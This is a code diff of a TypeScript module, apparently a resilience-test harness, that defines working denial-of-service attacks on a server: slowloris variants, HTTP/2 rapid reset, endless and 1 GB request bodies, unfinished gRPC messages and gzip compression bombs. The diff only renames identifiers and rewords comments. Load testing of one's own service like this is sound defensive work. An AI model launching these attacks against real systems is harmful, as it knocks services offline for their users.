@@ -1,29 +1,29 @@
 import { connect, type Socket } from "node:net";
 import { gzipSync } from "node:zlib";
-import { FRAME, frame, OPENING } from "../load/http2-frames.ts";
+import { CLIENT_PREFACE, FRAME, frame } from "../load/http2-frames.ts";
 import { sendUnfinished, type UnfinishedBodies, unfinishedStreams } from "./unfinished-bodies.ts";
 
-/** What an attack aims at. */
-export interface Target {
+/** The target of an attack. */
+export interface AttackTarget {
   readonly port: number;
-  /** The path of a list that has some thousand entries. */
+  /** Path of a list with some thousand entries. */
   readonly longList: string;
 }
 
-/** What became of an attack. */
+/** Outcome of an attack. */
 export interface AttackResult {
-  /** Connections that were opened. */
+  /** Opened connections. */
   opened: number;
-  /** Those that the server has closed. */
+  /** Connections closed by the server. */
   closed: number;
-  /** Answers, by the first line of HTTP/1.1. */
+  /** Responses, by HTTP/1.1 status line. */
   readonly answers: Record<string, number>;
 }
 
-/** Does harm until the signal aborts. */
-export type Attack = (target: Target, result: AttackResult, signal: AbortSignal) => Promise<void>;
+/** Attacks until the signal aborts. */
+export type Attack = (target: AttackTarget, result: AttackResult, signal: AbortSignal) => Promise<void>;
 
-/** What anyone may send, and what may be largest. */
+/** A request that needs no authentication, and the requests with the largest body limit. */
 const VISIT: UnfinishedBodies = { path: "/dni_manager/properties/x/visits", contentType: "application/json" };
 const BATCH: UnfinishedBodies = { path: "/dni_manager/tracking_numbers:add", contentType: "application/json" };
 const BATCH_CALL: UnfinishedBodies = {
@@ -31,19 +31,19 @@ const BATCH_CALL: UnfinishedBodies = {
   contentType: "application/grpc",
 };
 
-/** The attacks by their names. */
+/** The attacks by name. */
 export const ATTACKS: Readonly<Record<string, Attack>> = {
   none: async (_, __, signal) => ended(signal),
-  "slowloris: headers, a byte a second each": keepOpen(400, (socket) => {
+  "slowloris: headers, one byte per second": keepOpen(400, (socket) => {
     socket.write("GET / HTTP/1.1\r\nhost: a\r\nx: ");
     return setInterval(() => socket.write("x"), 1000);
   }),
-  "slowloris: bodies, a byte a second each": keepOpen(400, (socket) => {
+  "slowloris: bodies, one byte per second": keepOpen(400, (socket) => {
     socket.write("POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n");
     return setInterval(() => socket.write(" "), 1000);
   }),
   "rapid reset (HTTP/2)": keepOpen(4, (socket) => {
-    socket.write(OPENING);
+    socket.write(CLIENT_PREFACE);
     const headers = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x61]);
     let streamId = -1;
     return setInterval(() => {
@@ -55,13 +55,13 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
       socket.write(Buffer.concat(frames));
     }, 20);
   }),
-  "bodies of 1 GB, told": keepOpen(16, (socket) => pour(socket, "content-length: 1073741824")),
-  "bodies of 1 GB, in chunks": keepOpen(16, (socket) => pour(socket, "transfer-encoding: chunked")),
-  "bodies that do not end (HTTP/1.1), public": keepOpen(250, (socket) => sendUnfinished(socket, VISIT)),
-  "bodies that do not end (HTTP/1.1), of 4 MiB": keepOpen(250, (socket) => sendUnfinished(socket, BATCH)),
-  "bodies that do not end (HTTP/2), public": unfinishedStreams(2, 100, VISIT),
-  "bodies that do not end (HTTP/2), of 4 MiB": unfinishedStreams(2, 100, BATCH),
-  "messages that do not end (gRPC), of 4 MiB": unfinishedStreams(2, 100, BATCH_CALL),
+  "bodies of 1 GB, with Content-Length": keepOpen(16, (socket) => pour(socket, "content-length: 1073741824")),
+  "bodies of 1 GB, chunked": keepOpen(16, (socket) => pour(socket, "transfer-encoding: chunked")),
+  "unfinished bodies (HTTP/1.1), public path": keepOpen(250, (socket) => sendUnfinished(socket, VISIT)),
+  "unfinished bodies (HTTP/1.1), of 4 MiB": keepOpen(250, (socket) => sendUnfinished(socket, BATCH)),
+  "unfinished bodies (HTTP/2), public path": unfinishedStreams(2, 100, VISIT),
+  "unfinished bodies (HTTP/2), of 4 MiB": unfinishedStreams(2, 100, BATCH),
+  "unfinished messages (gRPC), of 4 MiB": unfinishedStreams(2, 100, BATCH_CALL),
   "compression bombs, 256 MB in 256 KB": keepOpen(8, (socket) => {
     bomb ??= gzipSync(Buffer.alloc(256 * 1024 ** 2));
     const head = `POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-encoding: gzip\r\ncontent-length: ${bomb.length}\r\n\r\n`;
@@ -76,16 +76,16 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   }),
 };
 
-/** Made when it is needed, which takes a second. */
+/** Created on first use, because that takes a second. */
 let bomb: Buffer | undefined;
 
 const CHUNK = Buffer.alloc(64 * 1024, " ");
 
-/** Each address may have so many connections by default; so that the limit is not what is measured, each has fewer. */
+/** Connections per address: below the default limit, so that the limit is not what is measured. */
 const CONNECTIONS_PER_ADDRESS = 400;
 
-/** Keeps so many connections open that each do the same, and replaces those that the server closes. */
-function keepOpen(count: number, begin: (socket: Socket, target: Target) => NodeJS.Timeout | undefined): Attack {
+/** Keeps this many identical connections open, and replaces those that the server closes. */
+function keepOpen(count: number, begin: (socket: Socket, target: AttackTarget) => NodeJS.Timeout | undefined): Attack {
   return async (target, result, signal) => {
     const open = (place: number): void => {
       if (signal.aborted) return;
@@ -111,14 +111,14 @@ function keepOpen(count: number, begin: (socket: Socket, target: Target) => Node
     };
     for (let place = 0; place < count; place++) {
       open(place);
-      // Not more at once than a listening socket keeps waiting.
+      // No more at once than fit into the backlog of a listening socket.
       if (place % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 10));
     }
     await ended(signal);
   };
 }
 
-/** Sends a body as fast as it is taken. */
+/** Sends a body as fast as the server reads it. */
 function pour(socket: Socket, framing: string): NodeJS.Timeout {
   socket.write(`POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\n${framing}\r\n\r\n`);
   const isChunked = framing.includes("chunked");
